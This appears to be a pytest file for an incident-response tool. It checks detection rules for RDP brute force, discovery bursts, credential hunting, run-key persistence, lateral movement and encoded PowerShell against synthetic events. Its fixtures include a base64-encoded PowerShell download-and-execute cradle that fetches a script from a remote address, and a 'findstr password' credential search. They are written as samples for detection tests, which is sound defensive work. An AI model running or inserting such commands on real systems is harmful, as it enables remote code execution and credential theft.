"""Finding rules on hand-made results: each rule's statement and evidence, and its limits."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

from irreport.analysis import findings as rules
from irreport.analysis.indicators import extract_indicators
from irreport.analysis.response import containment_actions
from irreport.analysis.summary import summarise
from irreport.collect import Collection
from irreport.sources import QueryResult
from irreport.timerange import TimeRange

T0 = datetime(2026, 12, 2, 14, 0, tzinfo=timezone.utc)


def make_collection(devices=("testmachine3",), **results) -> Collection:
    collection = Collection(devices=list(devices),
                            time_range=TimeRange(T0 - timedelta(days=2), T0 + timedelta(days=1)),
                            source_kind="local", source_provenance={}, pack_version="test")
    for query_id, rows in results.items():
        query_id = query_id.replace("_", "-")
        columns = sorted({k for r in rows for k in r})
        collection.results[query_id] = QueryResult(query_id=query_id, columns=columns, rows=rows)
    return collection


def failed(ip, attempts, account="administrator", kind="Public"):
    return {"DeviceName": "testmachine3", "RemoteIP": ip, "RemoteIPType": kind,
            "AccountName": account, "Attempts": attempts, "FirstSeen": T0,
            "LastSeen": T0 + timedelta(hours=1), "LogonType": "Network"}


def inbound_logon(ip="203.0.113.77", delay=92, kind="Public"):
    return {"DeviceName": "testmachine3", "RemoteIP": ip, "RemoteIPType": kind, "LocalPort": 3389,
            "ConnectionTime": T0, "LogonTime": T0 + timedelta(seconds=delay),
            "DelaySeconds": delay, "LogonType": "RemoteInteractive", "AccountDomain": "testmachine3",
            "AccountName": "administrator1"}


def process(name, command, parent="cmd.exe", seconds=0.0, pid=100, parent_pid=50):
    return {"Timestamp": T0 + timedelta(seconds=seconds), "DeviceName": "testmachine3",
            "FileName": name, "ProcessCommandLine": command, "InitiatingProcessFileName": parent,
            "InitiatingProcessId": parent_pid, "InitiatingProcessCreationTime": T0,
            "InitiatingProcessCommandLine": 'cmd.exe /c "a.cmd"', "AccountName": "administrator1",
            "ProcessId": pid}


def test_brute_force_counts_and_success():
    collection = make_collection(
        failed_logons=[failed("203.0.113.77", 15), failed("198.51.100.1", 10, "admin"),
                       failed("10.0.4.2", 50, kind="Private")],
        inbound_then_logon=[inbound_logon()])
    [finding] = rules.rdp_brute_force(collection)
    assert finding.facts["attempts"] == 25
    assert finding.facts["addresses"] == ["198.51.100.1", "203.0.113.77"]
    assert finding.facts["successful_addresses"] == ["203.0.113.77"]
    assert finding.severity == "High"
    assert "25 failed logons from 2 internet addresses against 2 account names" in finding.statement


def test_brute_force_below_threshold_is_silent():
    collection = make_collection(failed_logons=[failed("203.0.113.77", 19)])
    assert rules.rdp_brute_force(collection) == []


def test_brute_force_without_success_is_medium():
    collection = make_collection(failed_logons=[failed("203.0.113.77", 30)])
    [finding] = rules.rdp_brute_force(collection)
    assert finding.severity == "Medium"


def test_logon_after_inbound_statement():
    collection = make_collection(inbound_then_logon=[inbound_logon(),
                                                     inbound_logon("10.0.4.9", kind="Private")])
    [finding] = rules.logon_after_inbound(collection)
    assert finding.statement == (
        "testmachine3\\administrator1 logged on to testmachine3 (RemoteInteractive) from "
        "203.0.113.77 at 2026-12-02T14:01:32Z, 92 s after that address's inbound connection "
        "to port 3389.")
    assert finding.techniques == ["T1078", "T1133", "T1021.001"]


def test_discovery_burst_found():
    tools = ["whoami.exe", "net.exe", "ipconfig.exe", "systeminfo.exe", "netstat.exe"]
    rows = [process(name, name, seconds=i * 0.15, pid=200 + i) for i, name in enumerate(tools)]
    [finding] = rules.discovery_burst(make_collection(process_events=rows))
    assert finding.facts["tools"] == sorted(tools)
    assert abs(finding.facts["seconds"] - 0.6) < 1e-6
    assert {"T1033", "T1087.001", "T1016", "T1082", "T1049"} == set(finding.techniques)


def test_discovery_at_human_pace_is_silent():
    tools = ["whoami.exe", "net.exe", "ipconfig.exe", "systeminfo.exe"]
    rows = [process(name, name, seconds=i * 40) for i, name in enumerate(tools)]
    assert rules.discovery_burst(make_collection(process_events=rows)) == []


def test_discovery_from_non_shell_is_silent():
    tools = ["whoami.exe", "net.exe", "ipconfig.exe", "systeminfo.exe"]
    rows = [process(name, name, parent="svchost.exe", seconds=i * 0.1) for i, name in
            enumerate(tools)]
    assert rules.discovery_burst(make_collection(process_events=rows)) == []


def test_credential_hunting_needs_password_word():
    rows = [process("findstr.exe", "findstr /si password *.txt"),
            process("findstr.exe", "findstr /i error log.txt")]
    [finding] = rules.credential_hunting(make_collection(process_events=rows))
    assert len(finding.evidence[0].rows) == 1
    assert finding.techniques == ["T1552.001"]


def run_key(name, data, devices_with_value, device="testmachine3"):
    return {"Timestamp": T0, "DeviceName": device, "ActionType": "RegistryValueSet",
            "RegistryKey": r"HKEY_CURRENT_USER\S-1\Software\Microsoft\Windows\CurrentVersion\Run",
            "RegistryValueName": name, "RegistryValueData": data,
            "DevicesWithValue": devices_with_value, "InitiatingProcessFileName": "reg.exe"}


def test_run_key_rare_and_writable():
    rows = [run_key("OneDriveUpdate", r"C:\Users\Public\Libraries\odupdate.exe", 1),
            run_key("Teams", r"C:\Users\a\AppData\Local\Teams\Update.exe", 5),
            run_key("Vendor", r"C:\Program Files\Vendor\agent.exe", 1),
            run_key("Other", r"C:\Users\Public\x.exe", 1, device="wks-hr01")]
    [finding] = rules.run_key_persistence(make_collection(run_keys=rows))
    assert finding.facts["value_name"] == "OneDriveUpdate"
    assert finding.devices == ["testmachine3"]


def test_tampering_outcome():
    rows = [{"Timestamp": T0, "DeviceName": "testmachine3", "Category": "Tampering",
             "Outcome": "Blocked", "Detail": "RegistryModification DisableRealtimeMonitoring"}]
    [finding] = rules.tampering(make_collection(malicious_activity=rows))
    assert "outcome: Blocked" in finding.statement


def test_lateral_movement_skips_smb():
    base = {"ConnectionTime": T0, "SourceDevice": "testmachine3", "TargetIP": "10.0.4.21",
            "TargetDevice": "srv-files01", "AccountName": "administrator1",
            "LogonType": "RemoteInteractive", "LogonTime": T0 + timedelta(seconds=11),
            "InitiatingProcessCommandLine": "mstsc.exe /v:10.0.4.21"}
    rows = [{**base, "RemotePort": 3389}, {**base, "RemotePort": 445, "LogonType": "Network"}]
    [finding] = rules.lateral_movement(make_collection(lateral_movement=rows))
    assert "over RDP" in finding.statement
    assert "11 s later" in finding.statement
    assert finding.facts["target_device"] == "srv-files01"


def test_indicators_and_actions_from_findings():
    collection = make_collection(
        failed_logons=[failed("203.0.113.77", 30)], inbound_then_logon=[inbound_logon()],
        run_keys=[run_key("OneDriveUpdate", r"C:\Users\Public\Libraries\odupdate.exe", 1)])
    found = rules.run_rules(collection)
    indicators = extract_indicators(found, collection)
    kinds = {(i.kind, i.value) for i in indicators}
    assert ("IP address", "203.0.113.77") in kinds
    assert ("Account", "administrator1") in kinds
    assert any(k == "Registry value" and v.endswith(r"\OneDriveUpdate") for k, v in kinds)
    titles = [a.title for a in containment_actions(found, indicators)]
    assert titles[0] in ("Isolate the affected devices", "Disable and reset the accounts the "
                         "attacker used", "Close RDP to the internet")
    assert "Remove the run key value" in titles
    assert "Block the attacker's addresses" in titles


def test_summary_without_findings_says_so():
    summary = summarise([], ["testmachine3"])
    assert summary.first_malicious is None
    assert "no malicious activity" in summary.sentences[0]


def test_summary_names_entry_point():
    collection = make_collection(failed_logons=[failed("203.0.113.77", 30)],
                                 inbound_then_logon=[inbound_logon()])
    summary = summarise(rules.run_rules(collection), ["testmachine3"])
    assert "203.0.113.77" in summary.entry_point
    assert summary.accounts == ["administrator1"]


def test_internet_address_classification():
    assert rules.is_internet_address("203.0.113.77")
    assert rules.is_internet_address("8.8.8.8")
    assert not rules.is_internet_address("10.0.4.13")
    assert not rules.is_internet_address("fe80::1")
    assert not rules.is_internet_address("not an address")


def test_system_binaries_never_indicators():
    detections = [
        {"Timestamp": T0, "DeviceName": "testmachine3", "Category": "Attack surface reduction",
         "ActionType": "AsrLsassCredentialTheftBlocked", "Outcome": "Blocked",
         "Detail": "9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2", "FileName": "lsass.exe",
         "FolderPath": r"C:\Windows\System32\lsass.exe", "SHA1": "aa" * 20},
        {"Timestamp": T0, "DeviceName": "testmachine3", "Category": "Antivirus",
         "ActionType": "AntivirusReport", "Outcome": "Detected", "Detail": "x",
         "FileName": "Zoom.exe", "FolderPath": r"C:\Users\a\AppData\Roaming\Zoom\Zoom.exe",
         "SHA1": "bb" * 20},
        {"Timestamp": T0, "DeviceName": "testmachine3", "Category": "Antivirus",
         "ActionType": "AntivirusDetection", "Outcome": "Remediated",
         "Detail": "HackTool:Win32/Mimikatz.D", "FileName": "m.exe",
         "FolderPath": r"C:\Users\Public\Libraries\m.exe", "SHA1": "cc" * 20}]
    alerts = [{"AlertId": "a1", "Title": "LSASS access", "EntityType": "File",
               "FileName": "lsass.exe", "FolderPath": r"C:\Windows\System32", "SHA1": "aa" * 20,
               "AlertTime": T0}]
    collection = make_collection(malicious_activity=detections, alert_evidence=alerts)
    indicators = extract_indicators(rules.run_rules(collection), collection)
    hashes = {i.value for i in indicators if i.kind == "SHA1"}
    assert hashes == {"cc" * 20}


def test_brute_force_addresses_keep_own_first_seen():
    early = failed("198.51.100.1", 10)
    early["FirstSeen"] = T0 - timedelta(days=2)
    collection = make_collection(failed_logons=[early, failed("203.0.113.77", 15)],
                                 inbound_then_logon=[inbound_logon()])
    indicators = {i.value: i for i in extract_indicators(rules.run_rules(collection), collection)
                  if i.kind == "IP address"}
    assert set(indicators) == {"198.51.100.1", "203.0.113.77"}
    assert indicators["198.51.100.1"].first_seen == T0 - timedelta(days=2)
    assert indicators["203.0.113.77"].first_seen == T0


def test_encoded_powershell_decoded():
    import base64

    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    rows = [process("powershell.exe", f"powershell.exe -NoP -W Hidden -Enc {encoded}"),
            process("powershell.exe", "powershell.exe -Command Get-Date")]
    [finding] = rules.encoded_powershell(make_collection(process_events=rows))
    assert finding.facts["scripts"] == [script]
    assert len(finding.evidence[0].rows) == 1


def test_encoded_powershell_ignores_bad_or_short():
    assert rules.decode_powershell("powershell.exe -enc !!!notbase64!!!") is None
    assert rules.decode_powershell("powershell.exe -enc QUJDRA==") is None
